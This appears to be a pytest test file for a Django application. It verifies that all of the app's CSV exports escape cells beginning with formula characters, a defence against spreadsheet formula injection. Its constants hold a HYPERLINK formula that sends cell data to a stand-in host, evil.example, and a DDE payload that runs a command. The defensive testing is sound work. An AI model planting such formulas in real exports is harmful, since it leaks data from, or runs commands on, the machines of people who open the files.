"""No CSV the application serves carries a cell a spreadsheet would run as a formula: text
typed as `=HYPERLINK(...)` (a name, an address, a voucher, a username tried at the login)
comes out with a leading apostrophe, through the one CSV writer (anju.kit.csvfile)."""

import csv
import io
import re
from datetime import date
from decimal import Decimal

import pytest
from django.test import Client
from hypothesis import given
from hypothesis import strategies as st

from anju.conftest import sign_in
from anju.kit.csvfile import FORMULA_STARTS, safe_cell, stream_csv

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"点击查看")'
CALC = "=cmd|' /C calc'!A0"
NUMBER = re.compile(r"-?\d+(\.\d+)?")


def parsed(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def no_cell_starts_a_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            # A number written as a number (-3.5) is no formula; every text cell is escaped.
            assert not cell.startswith(FORMULA_STARTS) or NUMBER.fullmatch(cell), cell


# --- the writer -------------------------------------------------------------------------------

formula_text = st.builds(lambda start, rest: start + rest, st.sampled_from(FORMULA_STARTS),
                         st.text())
cells = st.one_of(st.text(), formula_text, st.integers(),
                  st.floats(allow_nan=False, allow_infinity=False),
                  st.decimals(allow_nan=False, allow_infinity=False), st.none())


@given(st.lists(st.lists(cells, min_size=1, max_size=6), max_size=8))
def test_the_writer_escapes_every_text_cell_that_starts_like_a_formula(rows):
    written = parsed(b"".join(stream_csv(["甲", "乙"], rows)))
    assert written[0] == ["甲", "乙"]
    assert len(written) == 1 + len(rows)
    for row, out in zip(rows, written[1:], strict=True):
        for value, cell in zip(row, out, strict=True):
            if isinstance(value, str):
                escaped = value.startswith(FORMULA_STARTS)
                assert cell == ("'" + value if escaped else value)
                assert not cell.startswith(FORMULA_STARTS)
            elif value is None:
                assert cell == ""
            else:
                assert cell == str(value)  # a number stays a number, negative ones too


@given(st.text())
def test_a_text_cell_never_starts_with_a_formula_character(text):
    cell = safe_cell(text)
    assert not cell.startswith(FORMULA_STARTS)
    assert cell.removeprefix("'") == text or cell == text


@pytest.mark.parametrize("value, cell", [
    (-40000, -40000), (Decimal("-12.50"), Decimal("-12.50")), (-0.5, -0.5),
    ("-40000", "'-40000"), ("+8613812345678", "'+8613812345678"), ("@王", "'@王"),
    (float("-inf"), "'-inf"), (True, "True"), (None, ""), ("王大山", "王大山"),
])
def test_numbers_stay_numbers_and_text_that_looks_like_one_is_escaped(value, cell):
    assert safe_cell(value) == cell


# --- every CSV route, with a formula stored -----------------------------------------------------

def body(response) -> bytes:
    assert response.status_code == 200, response.content
    return b"".join(response.streaming_content)


@pytest.fixture
def formula_house(make_household, make_house):
    household = make_household(head_name=CALC)
    return make_house(household=household, address=HYPERLINK)


def test_the_house_export_escapes_a_formula_typed_as_an_address_or_a_name(
        api, cast, formula_house):
    rows = parsed(body(api(cast.mhk_housing).get("/api/v1/exports/houses.csv")))
    no_cell_starts_a_formula(rows)
    record = dict(zip(rows[0], rows[1], strict=True))
    assert (record["地址"], record["户主"]) == ("'" + HYPERLINK, "'" + CALC)


def test_the_findings_export_escapes_a_formula_in_the_house_and_the_finding(
        api, cast, formula_house):
    from anju.quality.models import Finding

    Finding.objects.create(house=formula_house, division_code=formula_house.division_code,
                           kind="wrong_field", rule="R-CJ-3", field="@field", message=HYPERLINK,
                           source="save", found_on=date(2026, 1, 5), due_on=date(2026, 2, 5))
    rows = parsed(body(api(cast.mhk_housing).get("/api/v1/exports/findings.csv")))
    no_cell_starts_a_formula(rows)
    record = dict(zip(rows[0], rows[1], strict=True))
    assert (record["房屋地址"], record["户主"], record["字段"], record["问题说明"]) == (
        "'" + HYPERLINK, "'" + CALC, "'@field", "'" + HYPERLINK)


def test_the_ledger_export_escapes_a_formula_in_the_house_address(api, cast, formula_house):
    from anju.rectification.models import LedgerEntry

    LedgerEntry.objects.create(house=formula_house, household=formula_house.household,
                               division_code=formula_house.division_code, grade="D",
                               opened_on=date(2026, 1, 5))
    rows = parsed(body(api(cast.mhk_housing).get("/api/v1/exports/rectification-ledger.csv")))
    no_cell_starts_a_formula(rows)
    record = dict(zip(rows[0], rows[1], strict=True))
    assert (record["房屋地址"], record["户主（产权人）"]) == ("'" + HYPERLINK, "'" + CALC)


@pytest.fixture
def formula_case(cast, make_household, make_house):
    from django.apps import apps

    if not apps.is_installed("anju.assistance"):
        pytest.skip("anju.assistance is not installed: no case lists to export")
    from anju.assistance.models import Payment
    from anju.assistance.tests.conftest import Case
    from anju.registry.models import Household

    case = Case(cast, make_household, make_house).case
    Household.objects.filter(pk=case.household_id).update(head_name=CALC)
    Payment.objects.create(application=case, division_code=case.division_code,
                           amount=Decimal("1000"), paid_on=date(2026, 1, 5), account="yikatong",
                           voucher=HYPERLINK, paid_by=cast.mhk_finance)
    return case


@pytest.mark.parametrize("name, column, value", [
    ("applications", "户主", CALC), ("payments", "凭证号", HYPERLINK)])
def test_the_case_list_exports_escape_a_formula(api, cast, formula_case, name, column, value):
    rows = parsed(body(api(cast.mhk_civil).get(f"/api/v1/exports/{name}.csv")))
    no_cell_starts_a_formula(rows)
    assert dict(zip(rows[0], rows[1], strict=True))[column] == "'" + value


def test_a_background_csv_export_escapes_a_formula_in_its_file(api, cast, formula_house,
                                                                settings, tmp_path):
    settings.TASKS = {"default": {"BACKEND": "django_tasks.backends.immediate.ImmediateBackend"}}
    settings.MEDIA_ROOT = tmp_path / "media"
    client = api(cast.mhk_housing)
    job_id = client.post("/api/v1/exports/houses/jobs?format=csv").json()["job_id"]
    rows = parsed(body(client.get(f"/api/v1/jobs/{job_id}/result")))
    no_cell_starts_a_formula(rows)
    assert "'" + HYPERLINK in rows[1]


def test_an_import_error_report_escapes_a_formula_in_a_message(api, cast):
    from anju.exchange.models import Job, JobError

    job = Job.objects.create(owner=cast.shancheng, kind="import_households", status="failed",
                             division_code=cast.shancheng.scope, error_count=1,
                             params={"resource": "households"})
    JobError.objects.create(job=job, row=2, field="=head_name", code="text_invalid",
                            message=CALC)
    rows = parsed(body(api(cast.shancheng).get(f"/api/v1/jobs/{job.pk}/errors.csv")))
    no_cell_starts_a_formula(rows)
    assert rows[1] == ["2", "'=head_name", "", "text_invalid", "'" + CALC]


def test_a_formula_tried_as_a_username_at_the_login_is_escaped_in_the_audit_export(cast):
    Client().post("/login/", {"username": CALC, "password": "Wrong@pass1"})
    Client().post("/login/", {"username": "+1-1", "password": "Wrong@pass1"})
    auditor = sign_in(Client(), cast.auditor)
    rows = parsed(body(auditor.get("/audit/export.csv", {"action": "login_failed"})))
    no_cell_starts_a_formula(rows)
    assert sorted(r[1] for r in rows[1:]) == sorted(["'" + CALC, "'+1-1"])

